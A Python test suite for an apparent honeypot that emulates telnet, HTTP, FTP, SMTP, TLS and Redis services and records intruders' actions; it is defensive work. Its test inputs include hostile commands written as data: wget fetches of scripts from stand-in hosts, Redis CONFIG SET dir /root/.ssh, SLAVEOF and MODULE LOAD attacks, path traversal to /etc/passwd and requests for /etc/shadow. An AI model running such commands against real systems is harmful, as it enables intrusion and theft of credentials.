"""Each trap's dialogue with bytes alone: what an attacker sees, and what the trap records."""

from __future__ import annotations

import base64
import hashlib
import itertools
import re
import struct
import sys
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from honeymesh.detection.tls_fingerprint import ja3, ja4, parse_client_hello
from honeymesh.detection.traps import mysql
from honeymesh.detection.traps.dns import DnsResponder, parse_query, parse_records
from honeymesh.detection.traps.ftp import FtpDialogue, FtpSettings
from honeymesh.detection.traps.ftp_files import MAX_LISTED
from honeymesh.detection.traps.http import HttpDialogue
from honeymesh.detection.traps.lines import LineBuffer
from honeymesh.detection.traps.mysql import (
    MysqlDialogue,
    MysqlPacketError,
    MysqlSettings,
    native_scramble,
    parse_handshake_response,
)
from honeymesh.detection.traps.pam import fail_delay
from honeymesh.detection.traps.redis import (
    RedisDialogue,
    RedisSettings,
    RespError,
    RespParser,
    whole_command,
)
from honeymesh.detection.traps.shell import FakeShell, LineEditor
from honeymesh.detection.traps.smtp import SmtpDialogue, SmtpSettings
from honeymesh.detection.traps.snmp import encode_oid
from honeymesh.detection.traps.ssh import hassh, parse_kexinit
from honeymesh.detection.traps.telnet import (
    AYT,
    DO,
    DONT,
    FIRST_OFFER,
    IAC,
    SB,
    SE,
    TM,
    WILL,
    WONT,
    TelnetDialogue,
    TelnetSettings,
)

from .dialogues import HTTP, PERSONA, WEAK, now, responders, talk, tcp_dialogues

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures"


@pytest.fixture(scope="module")
def dialogues(tmp_path_factory: pytest.TempPathFactory) -> dict[str, object]:
    return tcp_dialogues(tmp_path_factory.mktemp("traps"))  # type: ignore[return-value]


# The fake shell ---------------------------------------------------------------------------------


def test_shell_answers_common_reconnaissance_plausibly() -> None:
    shell = FakeShell(PERSONA, "root", now)
    assert shell.run("uname -a").output.startswith("Linux web01 6.1.0-28-amd64 #1 SMP")
    assert shell.run("cat /proc/cpuinfo | grep name | wc -l").output == "2"
    assert shell.run("id").output == "uid=0(root) gid=0(root) groups=0(root)"
    assert 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"' in shell.run("cat /etc/os-release").output
    assert shell.run("cd /tmp; pwd").output == "/tmp"
    assert shell.prompt() == "root@web01:/tmp# "
    assert shell.run('echo -e "\\x6b\\x61\\x6d\\x69"').output == "kami"
    assert "failed: Connection refused." in shell.run("wget http://203.0.113.9/x.sh").output
    assert "unable to resolve host address" in shell.run("wget http://evil.example/x.sh").output
    assert shell.run("xyzzy").output == "-bash: xyzzy: command not found"
    assert shell.run("exit").exit


def test_shell_bounds_nesting_and_history() -> None:
    deep = "sudo " * 2000 + "id"
    assert "Resource temporarily unavailable" in FakeShell(PERSONA, "root", now).run(deep).output
    shell = FakeShell(PERSONA, "admin", now)
    loop = shell.run("echo 'sh /tmp/s; sh /tmp/s' > /tmp/s; sh /tmp/s")  # 2^n calls, bounded
    assert "Resource temporarily unavailable" in loop.output and len(loop.raw) <= 16 * 1024
    for i in range(500):
        shell.run(f"echo {i}")
    assert len(shell.history) == 200
    assert shell.prompt() == "admin@web01:~$ "


def test_line_editor_handles_backspace_controls_and_escape_sequences() -> None:
    editor = LineEditor(echo=True)
    out = editor.feed(b"lx\x7fs \x1b[A-la\r\n")
    assert out.lines == (b"ls -la",)
    assert out.echo.startswith(b"lx\b \bs ")
    assert editor.feed(b"\x03").interrupted
    assert editor.feed(b"\x04").end_of_input
    editor.secret = True
    assert editor.feed(b"hunter2\r").echo == b"\r\n"


def test_line_buffer_cuts_overlong_lines_and_counts_them() -> None:
    lines = LineBuffer(8)
    assert lines.feed(b"A" * 100) == []
    assert lines.feed(b"B\r\nok\n") == [b"AAAAAAAA", b"ok"]
    assert lines.overlong == 1


# Telnet -----------------------------------------------------------------------------------------


# What a client that refuses every option answers to telnetd's first and second offers.
TELNET_REFUSE = bytes([IAC, DONT, 37, IAC, DONT, 38, IAC, WONT, 24, IAC, WONT, 32, IAC, WONT, 35,
                       IAC, WONT, 39, IAC, WONT, 36])  # fmt: skip
TELNET_REFUSE_SECOND = bytes([IAC, DO, 3, IAC, WONT, 1, IAC, WONT, 34, IAC, WONT, 31,
                              IAC, DONT, 5, IAC, WONT, 33])  # fmt: skip


def test_telnet_survives_garbage_negotiation_and_records_escaped_usernames() -> None:
    settings = TelnetSettings(b"", PERSONA, WEAK)
    garbage = bytes([IAC, 0x42, IAC, IAC, IAC, WILL]) + b"\x99" + bytes([IAC, SB]) + b"x" * 5000
    t = talk(
        TelnetDialogue(settings, now),
        garbage,
        bytes([IAC, SE]),
        bytes([IAC, DO, 99, IAC, DO, 99]),
        TELNET_REFUSE,
        TELNET_REFUSE_SECOND,
        b"\xff\xff\xc3(root\r\n",  # IAC IAC is a literal 0xff; \xc3( is invalid UTF-8
        b"toor\r\n",
    )
    assert t.replies[0] == FIRST_OFFER
    assert t.replies[1] == bytes([IAC, DONT, 0x99])  # the option nobody asked for refused
    assert t.replies[3] == bytes([IAC, WONT, 99]) * 2  # each DO answered, as telnetd does
    assert t.replies[4].startswith(bytes([IAC, WILL, 3, IAC, DO, 1, IAC, DO, 34]))
    # login starts; the 0xff typed meanwhile (the garbage's IAC IAC) is read by it, echoed
    assert t.replies[5].endswith(
        b"\r\nLinux 6.1.0-28-amd64 (web01) (pts/0)\r\n\r\nweb01 login: \xff\xff"
    )
    assert t.replies[6] == b"\xff\xff\xc3(root\r\nPassword: "  # 0xff escaped as IAC IAC
    assert t.detail["oversized_subnegotiations"] == 1
    (cred,) = t.found("trap.credential")
    # one literal 0xff from the garbage's IAC IAC, one from this line's, then invalid UTF-8
    assert cred["username"] == "\\xff\\xff\\xc3(root"
    assert cred["password"] == "toor" and cred["accepted"] is False
    assert t.replies[-1] == b"\r\n\r\nLogin incorrect\r\nweb01 login: " and not t.closed


def test_telnet_answers_a_failed_login_after_pams_pause() -> None:
    """login's new line after the password goes at once; "Login incorrect" after libpam's
    pause, a function of the second the attempt began (login's start, then each pause's end)."""
    clock = [1_700_000_000.4]
    dialogue = TelnetDialogue(TelnetSettings(b"", PERSONA, WEAK), lambda: clock[0])
    dialogue.receive(TELNET_REFUSE)
    dialogue.receive(TELNET_REFUSE_SECOND)  # login starts: the first attempt begins
    began = clock[0]
    clock[0] += 1.3
    dialogue.receive(b"root\r\n")
    clock[0] += 1.0
    step = dialogue.receive(b"wrong\r\n")
    assert step.delay == fail_delay(began, 3.0) and 1.5 <= step.delay < 4.5
    assert step.reply[: step.pause_at] == b"\r\n" and step.more and step.reads_meanwhile
    assert step.reply[step.pause_at :] == b"\r\nLogin incorrect\r\nweb01 login: "
    # During the pause telnetd answers at once, the terminal echoes, the next prompt flushes
    assert dialogue.receive(bytes([IAC, AYT, IAC, DO, TM])).reply == b"\r\n[Yes]\r\n" + bytes(
        [IAC, WILL, TM]
    )
    assert dialogue.receive(b"admin\r\nsecr").reply == b"admin\r\nsecr"
    assert dialogue.receive(b"\x7f").reply == b"\b \b"  # still there to erase until...
    assert dialogue.receive(b"").reply == b""  # ... the pause is over (Step.more)
    began = clock[0] + step.delay  # the next attempt begins as the pause ends
    clock[0] = began + 2.0
    assert dialogue.receive(b"root\r\n").reply == b"root\r\nPassword: "  # admin: gone
    assert dialogue.receive(b"wrong\r\n").delay == fail_delay(began, 3.0)


def test_telnet_throws_away_what_was_typed_behind_the_line_login_read() -> None:
    """PAM turns echo off for the password and on again after it with TCSAFLUSH: a client that
    sends name and password in one go gets the prompt and nothing else, and what it typed
    behind a password is gone too (as Debian 12's login: tests/fidelity)."""
    dialogue = TelnetDialogue(TelnetSettings(b"", PERSONA, WEAK), now)
    dialogue.receive(TELNET_REFUSE)
    dialogue.receive(TELNET_REFUSE_SECOND)
    step = dialogue.receive(b"root\r\nroot\r\nuna")
    assert step.reply == b"root\r\nroot\r\nunaPassword: " and step.delay == 0
    assert not step.findings
    step = dialogue.receive(b"me\r\nwrong\r\nroot\r\nroot\r\n")  # "una" was flushed
    assert [f["password"] for _, f in step.findings] == ["me"]
    assert step.reply[: step.pause_at] == b"\r\n"  # the password's line ends once
    assert step.reply[step.pause_at :] == b"\r\nLogin incorrect\r\nweb01 login: "
    dialogue.receive(b"")  # the pause is over
    assert dialogue.receive(b"root\r\n").reply == b"root\r\nPassword: "  # a new name
    assert dialogue.receive(b"root\r\n").logged_in


def test_telnet_says_nothing_more_until_the_client_answers() -> None:
    """As telnetd waits for the answers to its first offer, whatever the client types."""
    t = talk(TelnetDialogue(TelnetSettings(b"", PERSONA, WEAK), now), b"root\r\n", b"\r\n")
    assert t.replies == [FIRST_OFFER, b"", b""] and not t.closed


def test_telnet_weak_login_opens_the_shell_and_records_commands() -> None:
    settings = TelnetSettings(b"", PERSONA, WEAK)
    t = talk(
        TelnetDialogue(settings, now),
        TELNET_REFUSE,
        TELNET_REFUSE_SECOND,
        b"root\r\n",
        b"root\r\n",
        b"uname -m\r\n",
        b"exit\r\n",
    )
    assert b"Password: " in t.output and b"root\r\n" not in t.output.split(b"Password: ")[1][:6]
    assert b"root@web01:~# " in t.output and b"x86_64" in t.output
    assert [c["command"] for c in t.found("trap.command")] == ["uname -m", "exit"]
    assert t.closed


def test_telnet_hangs_up_after_five_failures_as_login_defs_says() -> None:
    settings = TelnetSettings(b"", PERSONA, WEAK)
    t = talk(
        TelnetDialogue(settings, now),
        TELNET_REFUSE,
        TELNET_REFUSE_SECOND,
        *[b"a\r\n", b"b\r\n"] * 5,
        b"x\r\n",
    )
    assert len(t.found("trap.credential")) == 5 and t.closed
    assert t.output.endswith(b"Login incorrect\r\nMaximum number of tries exceeded (5)\r\n")


# HTTP -------------------------------------------------------------------------------------------


def test_http_wordpress_login_is_captured_and_answered_like_wordpress() -> None:
    body = b"log=intranet&pwd=s3cret&wp-submit=Log+In"  # the site's administrator (its title)
    request = (
        b"POST /wp-login.php HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded"
        b"\r\nContent-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body
    )
    t = talk(HttpDialogue(replace(HTTP, site="wordpress"), now), request[:50], request[50:])
    assert t.output.startswith(b"HTTP/1.1 200 OK\r\n")
    assert b"Server: Apache/2.4.62 (Debian)\r\nX-Powered-By: PHP/8.2.24\r\n" in t.output
    assert b"The password you entered for the username <strong>intranet</strong>" in t.output
    (cred,) = t.found("trap.credential")
    assert (cred["username"], cred["password"], cred["method"]) == ("intranet", "s3cret", "form")
    (req,) = t.found("trap.request")
    assert req["method"] == "POST" and req["path"] == "/wp-login.php" and req["body_bytes"] == 40


def test_http_site_is_one_application() -> None:
    """The default site is Debian's Apache page and nothing of WordPress, Laravel or
    phpMyAdmin; each of those sites has its own paths and no other's."""
    probes = b"".join(
        f"GET {p} HTTP/1.1\r\nHost: x\r\n\r\n".encode()
        for p in ("/", "/wp-login.php", "/.env", "/phpmyadmin/", "/login")
    )
    statuses = {}
    for site in ("default", "wordpress", "phpmyadmin", "laravel"):
        out = talk(HttpDialogue(replace(HTTP, site=site), now), probes).output
        statuses[site] = [r[:3] for r in out.split(b"HTTP/1.1 ")[1:]]
    assert statuses == {
        "default": [b"200", b"404", b"404", b"404", b"404"],
        "wordpress": [b"200", b"200", b"404", b"404", b"404"],
        "phpmyadmin": [b"200", b"404", b"404", b"200", b"404"],
        "laravel": [b"302", b"404", b"200", b"404", b"200"],
    }
    page = talk(HttpDialogue(HTTP, now), b"GET / HTTP/1.1\r\nHost: x\r\n\r\n").output
    assert b"<title>Apache2 Debian Default Page: It works</title>" in page
    assert b"WordPress" not in page and b"X-Powered-By" not in page


def test_http_basic_auth_is_401_and_recorded_keep_alive_and_404() -> None:
    auth = base64.b64encode(b"tomcat:tomcat").decode()
    t = talk(
        HttpDialogue(HTTP, now),
        f"GET /admin/ HTTP/1.1\r\nAuthorization: Basic {auth}\r\nHost: x\r\n\r\n".encode()
        + b"GET /nope HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
    )
    replies = t.output.split(b"HTTP/1.1 ")[1:]
    assert [r[:3] for r in replies] == [b"401", b"404"]
    assert b'WWW-Authenticate: Basic realm="Restricted"' in replies[0]
    assert b"Apache/2.4.62 (Debian) Server at x Port 80" in replies[1]
    assert t.found("trap.credential")[0]["username"] == "tomcat"
    assert t.closed
    env = talk(HttpDialogue(replace(HTTP, site="laravel"), now), b"GET /.env HTTP/1.0\r\n\r\n")
    assert b"DB_PASSWORD=" in env.output and b'ETag: "' in env.output


def test_http_static_files_have_stable_validators_and_304() -> None:
    first = talk(HttpDialogue(HTTP, now), b"GET / HTTP/1.1\r\nHost: x\r\n\r\n").output
    etag = first.split(b"ETag: ")[1].split(b"\r\n")[0]
    assert re.fullmatch(rb'"29cd-[0-9a-f]{13}"', etag)  # Debian's page is 10701 bytes
    again = talk(
        HttpDialogue(HTTP, now),
        b"GET / HTTP/1.1\r\nHost: x\r\nIf-None-Match: " + etag + b"\r\n\r\n",
    ).output
    assert again.startswith(b"HTTP/1.1 304 Not Modified\r\n") and b"ETag: " + etag in again
    assert b"<html" not in again


def test_http_path_traversal_long_uri_and_big_headers_are_refused_as_apache_does() -> None:
    for request, status in (
        (b"GET /../../etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n", b"400"),
        (b"GET /icons/.%2e/%2e%2e/etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n", b"400"),
        (b"GET /" + b"a" * 9000, b"414"),
        (b"GET / HTTP/1.1\r\nX: " + b"a" * 9000, b"400"),
        (b"TRACE / HTTP/1.1\r\nHost: x\r\n\r\n", b"405"),
    ):
        t = talk(HttpDialogue(HTTP, now), request)
        assert t.output[9:12] == status, request[:40]


def test_http_large_bodies_are_bounded_and_malformed_requests_get_400() -> None:
    big = b"A" * 5000
    t = talk(
        HttpDialogue(HTTP, now),
        b"POST /x HTTP/1.1\r\nHost: x\r\nContent-Length: 5000\r\n\r\n" + big[:3000],
        big[3000:] + b"HEAD / HTTP/1.0\r\n\r\n",
    )
    first = t.found("trap.request")[0]
    assert first["body_bytes"] == 5000 and len(str(first["body"])) == HTTP.max_body
    assert t.output.count(b"HTTP/1.1 ") == 2 and t.closed  # HTTP/1.0 closes
    bad = talk(HttpDialogue(HTTP, now), b"\x16\x03\x01garbage\r\n\r\n")
    assert bad.output.startswith(b"HTTP/1.1 400 Bad Request") and bad.closed


# TLS --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("client", ["curl", "openssl-s_client", "go", "nodejs"])
def test_tls_fingerprints_the_client_hello_before_the_handshake(
    dialogues: dict[str, object], client: str
) -> None:
    hello = (FIXTURES / f"{client}.bin").read_bytes()
    t = talk(dialogues["tls"](), hello[:7], hello[7:])  # type: ignore[operator]
    (found,) = t.found("tls.client_hello")
    parsed = parse_client_hello(hello)
    assert found["ja4"] == ja4(parsed) and found["ja3"] == ja3(parsed)
    assert t.output[:1] == b"\x16"  # a ServerHello is on its way


def test_tls_port_answers_plain_http_like_apache(dialogues: dict[str, object]) -> None:
    t = talk(dialogues["tls"](), b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")  # type: ignore[operator]
    assert b"You're speaking plain HTTP to an SSL-enabled server port" in t.output and t.closed


# FTP, SMTP --------------------------------------------------------------------------------------


def test_ftp_records_logins_and_serves_data_only_over_its_own_passive_port() -> None:
    settings = FtpSettings(b"220 (vsFTPd 3.0.3)", WEAK, PERSONA)
    dialogue = FtpDialogue(settings, "192.0.2.9")
    dialogue.start()
    assert b"230 Login successful." in dialogue.receive(b"USER admin\r\nPASS admin\r\n").reply
    assert dialogue.receive(b"LIST\r\n").reply == b"425 Use PORT or PASV first.\r\n"
    # PASV asks the protocol for a port; what follows it waits until the dialogue is told
    asked = dialogue.receive(b"PASV\r\nPWD\r\n")
    assert asked.listen and asked.reply == b"" and asked.transfer is None
    told = dialogue.listening("192.0.2.1", 40001)
    assert told.reply == b"227 Entering Passive Mode (192,0,2,1,156,65).\r\n"
    # over IPv6, PASV names no address, as vsftpd 3.0.3 does (measured on ::1)
    ipv6 = FtpDialogue(settings, "2001:db8::9")
    talk(ipv6, b"USER admin\r\nPASS admin\r\nPASV\r\n")
    assert ipv6.listening("2001:db8::1", 40001).reply == (
        b"227 Entering Passive Mode (0,0,0,0,156,65).\r\n"
    )
    assert dialogue.receive(b"").reply == b'257 "/home/admin" is the current directory\r\n'
    listed = dialogue.receive(b"LIST -a\r\nNOOP\r\n")
    assert listed.reply == b"" and listed.transfer is not None  # NOOP waits for the transfer
    assert listed.transfer.opening == b"150 Here comes the directory listing.\r\n"
    assert b" .bashrc\r\n" in listed.transfer.data
    assert listed.transfer.done == b"226 Directory send OK.\r\n"
    assert dialogue.receive(b"").reply == b"200 NOOP ok.\r\n"
    assert dialogue.receive(b"NLST\r\n").reply == b"425 Use PORT or PASV first.\r\n"  # used
    # EPSV, a file, and one the user may not read (the port is kept for the next transfer)
    assert dialogue.receive(b"EPSV\r\n").listen
    assert dialogue.listening("192.0.2.1", 40002).reply == (
        b"229 Entering Extended Passive Mode (|||40002|)\r\n"
    )
    assert dialogue.receive(b"RETR /etc/shadow\r\n").reply == b"550 Failed to open file.\r\n"
    got = dialogue.receive(b"RETR /etc/hostname\r\n").transfer
    assert got is not None and got.data == b"web01\n"
    assert got.opening == (
        b"150 Opening BINARY mode data connection for /etc/hostname (6 bytes).\r\n"
    )
    assert dialogue.detail["retrieved"] == ["/etc/hostname"]
    # No port to be had: vsftpd's OOPS, and the session ends as vsftpd's process does
    dialogue.receive(b"PASV\r\n")
    oops = dialogue.listening("192.0.2.1", None)
    assert oops.reply == b"500 OOPS: vsf_sysutil_bind\r\n" and oops.close


def test_ftp_active_mode_is_answered_but_never_connects() -> None:
    dialogue = FtpDialogue(FtpSettings(b"220 (vsFTPd 3.0.3)", WEAK), "192.0.2.9")
    t = talk(
        dialogue,
        b"USER admin\r\nPASS admin\r\nPORT 1,2,3,4,5,6\r\nPORT 192,0,2,9,0,80\r\n",
        b"PORT 192,0,2,9,156,65\r\nRETR /nonexistent\r\nLIST\r\nLIST\r\n",
        b"EPRT |1|192.0.2.9|40001|\r\nNLST\r\nEPRT |1|203.0.113.1|40001|\r\n",
    )
    assert t.output.count(b"500 Illegal PORT command.") == 2  # another host; a low port
    assert b"200 PORT command successful. Consider using PASV." in t.output
    assert b"550 Failed to open file." in t.output  # RETR opens the file first
    assert t.output.count(b"425 Failed to establish connection.") == 2
    assert b"425 Use PORT or PASV first." in t.output  # one transfer per PORT
    assert b"200 EPRT command successful. Consider using EPSV." in t.output
    assert t.output.endswith(b"500 Illegal EPRT command.\r\n")


def test_ftp_failed_logins_wait_and_hang_up_as_vsftpd() -> None:
    settings = FtpSettings(b"220 (vsFTPd 3.0.3)", WEAK)
    fails = talk(FtpDialogue(settings), b"USER a\r\nPASS b\r\n" * 3)
    assert fails.output.count(b"530 Login incorrect.") == 3 and fails.closed
    # Debian's /etc/ftpusers keeps root out whatever its password, as vsftpd's PAM stack does
    root = talk(FtpDialogue(FtpSettings(settings.banner, frozenset({("root", "root")}))),
                b"USER root\r\nPASS root\r\n")  # fmt: skip
    assert root.output.endswith(b"530 Login incorrect.\r\n")
    assert root.found("trap.credential")[0]["accepted"] is False
    failed = FtpDialogue(settings, now=now)
    failed.start()
    # As vsftpd: libpam's pause for pam_unix's 2 s, by the second of the PASS, then its own 1 s
    assert failed.receive(b"USER a\r\nPASS b\r\n").delay == fail_delay(now(), 2.0) + 1.0
    assert failed.receive(b"NOOP\r\n").delay == 0.0


def test_ftp_login_looks_around_the_nodes_machine_as_vsftpd_shows_it() -> None:
    clock = [1_700_000_000.0]
    settings = FtpSettings(b"220 (vsFTPd 3.0.3)", WEAK, PERSONA)
    t = talk(
        FtpDialogue(settings, "192.0.2.9", lambda: clock[0]),
        b"USER admin\r\nPASS admin\r\nPWD\r\nCWD /root\r\nCWD /bin\r\nPWD\r\n",
        b"SIZE /usr/bin/ls\r\nSIZE /root/.bashrc\r\nSTAT /etc/shadow\r\nSTAT /bin/sh\r\n",
        b"CWD ~\r\nSTAT .\r\nSTAT /nonexistent\r\nMDTM /etc\r\n",
    )
    out = t.output.decode()
    assert '257 "/home/admin" is the current directory' in out  # a local user's home
    assert "550 Failed to change directory." in out  # /root is 0700
    assert '257 "/usr/bin" is the current directory' in out  # the physical path (usrmerge)
    assert "213 151344\r\n" in out  # Debian 12's /usr/bin/ls
    assert "550 Could not get file size." in out  # /root cannot be searched
    assert re.search(r"-rw-r----- +1 0 +42 +\d+ [A-Z][a-z]{2} \d\d  \d{4} shadow\r\n", out)
    assert re.search(r"lrwxrwxrwx +1 0 +0 +4 .{12} sh -> dash\r\n", out)
    assert re.search(r"drwxr-xr-x +2 1000 +1000 +4096 .{12} \.\r\n", out)  # the home itself
    assert " .bashrc\r\n" in out and "213-Status follows:\r\n213 End of status" in out
    assert "550 Could not get file modification time." in out


def test_ftp_listings_of_one_session_are_bounded() -> None:
    """A 10-byte STAT of a big folder answers 36 KB: a packet of them is bounded, not 200 MB."""
    dialogue = FtpDialogue(FtpSettings(b"220 (vsFTPd 3.0.3)", WEAK, PERSONA), "192.0.2.9")
    dialogue.start()
    dialogue.receive(b"USER admin\r\nPASS admin\r\n")
    first = dialogue.receive(b"STAT /usr/bin\r\n").reply
    assert len(first) > 20_000 and first.count(b"\r\n") > 500
    flood = dialogue.receive(b"STAT /usr/bin\r\n" * 6000).reply
    assert len(flood) < MAX_LISTED + 6000 * 64
    assert flood.endswith(b"213-Status follows:\r\n213 End of status\r\n")  # past the bound


def test_ftp_dates_show_the_time_within_half_a_year_and_the_year_beyond() -> None:
    settings = FtpSettings(b"220 (vsFTPd 3.0.3)", WEAK, PERSONA)
    dialogue = FtpDialogue(settings, "192.0.2.9", lambda: 1_700_000_000.0)
    talk(dialogue, b"USER admin\r\nPASS admin\r\n")
    files = dialogue._files
    assert files is not None
    assert files._date(1_700_000_000.0 - 86400 * 30) == "Oct 15 22:13"
    assert files._date(1_700_000_000.0 - 86400 * 200) == "Apr 28  2023"
    assert files._date(1_700_000_000.0 + 3600) == "Nov 14  2023"  # in the future: the year


def test_smtp_auth_relay_and_data_are_recorded(dialogues: dict[str, object]) -> None:
    plain = base64.b64encode(b"\x00admin\x00pw1")
    t = talk(
        dialogues["smtp"](),  # type: ignore[operator]
        b"EHLO x\r\nAUTH PLAIN " + plain + b"\r\nAUTH LOGIN\r\n",
        base64.b64encode(b"bob") + b"\r\n" + base64.b64encode(b"pw2") + b"\r\n",
        b"MAIL FROM:<a@evil.test>\r\nRCPT TO:<v@victim.test>\r\nRCPT TO:<root@example.net>\r\n",
        b"DATA\r\nSubject: hi\r\n\r\n..dotted\r\n.\r\nQUIT\r\n",
    )
    assert [(c["username"], c["password"]) for c in t.found("trap.credential")] == [
        ("admin", "pw1"),
        ("bob", "pw2"),
    ]
    assert b"454 4.7.1 <v@victim.test>: Relay access denied" in t.output
    (message,) = t.found("trap.command")
    assert message["to"] == ["root@example.net"] and ".dotted" in str(message["command"])
    assert t.detail["relay_probe"] is True and t.closed


def _smtp(max_body: int = 1024) -> SmtpDialogue:
    return SmtpDialogue(
        SmtpSettings("mail.example.net", "ESMTP Postfix (Debian/GNU)", max_body), now
    )


BDAT_SESSION = (
    b"EHLO x\r\nMAIL FROM:<a@evil.test>\r\nRCPT TO:<root@example.net>\r\n"
    b"BDAT 9\r\nSubject: BDAT 13 LAST\r\nhi\r\n.\r\nQUIT\r\nNOOP\r\n"
)


def test_smtp_bdat_chunks_are_read_raw_and_recorded_as_the_message() -> None:
    t = talk(_smtp(), BDAT_SESSION)
    # the last chunk holds what would end DATA and the session (a dot, QUIT): it is content
    assert b"250 2.0.0 Ok: 9 bytes\r\n" in t.output
    assert b"250 2.0.0 Ok: 22 bytes queued as " in t.output
    assert t.output.endswith(b"250 2.0.0 Ok\r\n") and not t.closed  # the NOOP after them
    (message,) = t.found("trap.command")
    assert message["to"] == ["root@example.net"] and message["bytes"] == 22
    assert message["command"] == "Subject: hi\r\n.\r\nQUIT\r\n" and t.detail["bdat"] is True


@given(st.lists(st.integers(min_value=0, max_value=len(BDAT_SESSION)), max_size=12))
def test_smtp_answers_the_same_however_the_stream_is_cut(cuts: list[int]) -> None:
    bounds = [0, *sorted(cuts), len(BDAT_SESSION)]
    pieces = [BDAT_SESSION[a:b] for a, b in itertools.pairwise(bounds)]
    whole, cut = talk(_smtp(), BDAT_SESSION), talk(_smtp(), *pieces)
    strip = re.compile(rb"queued as [0-9A-F]+")
    assert strip.sub(b"", cut.output) == strip.sub(b"", whole.output)
    assert [f["command"] for f in cut.found("trap.command")] == [
        f["command"] for f in whole.found("trap.command")
    ]


def test_smtp_bdat_over_the_size_limit_is_read_and_refused_without_keeping_it() -> None:
    limit = 10_240_000
    t = talk(
        _smtp(),
        b"EHLO x\r\nMAIL FROM:<a@b.test>\r\nRCPT TO:<root@example.net>\r\n",
        b"BDAT %d\r\n" % (limit + 1),
        b"x" * (limit + 1),
        b"BDAT 3 LAST\r\nabc",
    )
    assert t.output.endswith(
        b"552 5.3.4 Chunk exceeds message size limit\r\n"
        b"551 5.0.0 Discarded 3 bytes after earlier error\r\n"
    )
    assert t.found("trap.command") == []


@pytest.mark.parametrize(
    "line", [b"GET / HTTP/1.0", b"post /x HTTP/1.1", b"CONNECT a:443 HTTP/1.1", b"Subject: x", b"1"]
)
def test_smtp_hangs_up_on_what_postfix_forbids(line: bytes) -> None:
    t = talk(_smtp(), b"EHLO x\r\n" + line + b"\r\nNOOP\r\n")
    assert t.output.endswith(b"221 2.7.0 Error: I can break rules, too. Goodbye.\r\n")
    assert t.closed and t.detail["non_smtp_command"] == line.decode()


def test_smtp_malformed_bdat_hangs_up_as_postfix_does() -> None:
    for command in (b"BDAT", b"BDAT x", b"BDAT 1 2", b"BDAT 1 LAST x", b"BDAT " + b"9" * 19):
        t = talk(_smtp(), b"EHLO x\r\nMAIL FROM:<a@b.test>\r\n" + command + b"\r\nNOOP\r\n")
        assert t.output.endswith(b"521 5.5.4 Syntax: BDAT count [LAST]\r\n") and t.closed


# Redis, MySQL -----------------------------------------------------------------------------------


def test_redis_attacks_are_answered_and_recorded(dialogues: dict[str, object]) -> None:
    t = talk(
        dialogues["redis"](),  # type: ignore[operator]
        b"*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$10\r\n/root/.ssh\r\n",
        b"SLAVEOF 203.0.113.5 8886\r\nMODULE LOAD /tmp/exp.so\r\nSET k v\r\nGET k\r\n",
    )
    assert t.output == (  # as Redis 7.0 answers: dir is a protected config, MODULE disabled
        b"-ERR CONFIG SET failed (possibly related to argument 'dir') - can't set protected "
        b"config\r\n+OK\r\n-ERR MODULE command not allowed. If the enable-module-command "
        b'option is set to "local", you can run it from a local connection, otherwise you need '
        b"to set this option in the configuration file, and then restart the server.\r\n"
        b"+OK\r\n$1\r\nv\r\n"
    )
    assert t.detail["config_set"] == {"dir": "/root/.ssh"}
    assert t.detail["replicaof"] == "203.0.113.5:8886"
    assert t.detail["module_load"] == "/tmp/exp.so"


def test_redis_hangs_up_on_an_http_request_before_asking_for_a_password() -> None:
    settings = RedisSettings("7.0.15", "Linux 6.1.0-28-amd64 x86_64", "s3cret")
    t = talk(RedisDialogue(settings, now), b"POST / HTTP/1.1\r\nHost: 127.0.0.1:6379\r\n\r\n")
    assert t.output == b"" and t.closed and t.detail["security_attack"] == "POST"


def test_smtp_bdat_counts_each_transaction_afresh() -> None:
    t = talk(
        _smtp(),
        b"EHLO x\r\nMAIL FROM:<a@b.test>\r\nRCPT TO:<root@example.net>\r\nBDAT 5\r\nab\r\r\r",
        b"BDAT 0 LAST\r\nMAIL FROM:<a@b.test>\r\nRCPT TO:<root@example.net>\r\n",
        b"BDAT 2 LAST\r\n\r\n",
    )
    assert t.output.count(b"queued as") == 2
    assert b"250 2.0.0 Ok: 2 bytes queued as " in t.output  # not what the last one left


def test_resp_parser_waits_for_more_and_rejects_nonsense() -> None:
    parser = RespParser()
    assert parser.feed(b"*2\r\n$4\r\nECHO\r\n$5\r\nhel") == []
    assert parser.feed(b"lo\r\n") == [[b"ECHO", b"hello"]]
    with pytest.raises(RespError):
        RespParser().feed(b"*1\r\n:12\r\n")
    with pytest.raises(RespError):
        RespParser().feed(b"*99999999\r\n")


def _read(data: bytes, *, generally: bool = False) -> list[list[bytes]] | str:
    """What a parser reads from ``data`` and then from a PING (what it kept of ``data`` shows
    there), or its error. ``generally``: fed a byte first, so that the short cut for a whole
    command in one chunk never answers."""
    parser = RespParser()
    chunks = [data[:1], data[1:]] if generally else [data]
    try:
        return [c for chunk in [*chunks, _resp_array([b"PING"])] for c in parser.feed(chunk)]
    except RespError as e:
        return str(e)


def _resp_array(args: list[bytes]) -> bytes:
    return b"*%d\r\n" % len(args) + b"".join(b"$%d\r\n%s\r\n" % (len(a), a) for a in args)


# Arguments with line ends, dollars and stars inside: what could fool a split at line ends.
_ARGS = st.lists(
    st.binary(max_size=12) | st.sampled_from([b"\r\n", b"$3", b"*1\r\n$1"]), max_size=6
)


@given(
    st.one_of(
        _ARGS.map(_resp_array),
        st.tuples(_ARGS.map(_resp_array), st.integers(0, 60), st.binary(max_size=3)).map(
            lambda t: t[0][: t[1]] + t[2] + t[0][t[1] :]  # a whole command with bytes put in
        ),
        st.binary(max_size=40).map(lambda b: b"*" + b),
    )
)
def test_a_whole_command_is_read_as_the_general_parser_reads_it(data: bytes) -> None:
    """The short cut answers only for exactly one whole array, and then as the general parser
    does; anything else (half a command, two, an argument holding a line end, bytes put in)
    goes to the general parser."""
    fast = whole_command(data)
    if fast is not None:
        assert _read(data, generally=True) == [fast, [b"PING"]]
    assert _read(data) == _read(data, generally=True)


